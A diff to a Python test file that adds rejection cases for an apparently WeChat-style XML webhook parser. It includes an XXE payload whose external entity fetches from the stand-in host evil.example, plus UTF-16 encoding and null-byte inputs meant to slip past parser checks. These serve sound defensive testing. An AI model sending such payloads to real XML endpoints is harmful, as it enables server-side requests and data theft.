@@ -87,6 +87,9 @@ def test_events_are_identified_by_sender_and_time():
         (b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><xml/>', "DOCTYPE"),
         (("<xml>" + "<A>1</A>" * 100 + "</xml>").encode(), "more than"),
         (b"<xml><ToUserName>\xff\xfe</ToUserName></xml>", "UTF-8"),
+        ('<?xml version="1.0" encoding="utf-16-le"?><!DOCTYPE x [<!ENTITY a "b">]><xml/>'.encode("utf-16-le"), "UTF-8"),
+        ('<?xml version="1.0" encoding="utf-16-be"?><xml/>'.encode("utf-16-be"), "UTF-8"),
+        (b"<xml><Content>a\x00b</Content></xml>", "cannot carry"),
         (b"<xml><Content>" + b"a" * MAX_BODY_BYTES + b"</Content></xml>", "larger"),
     ],
 )
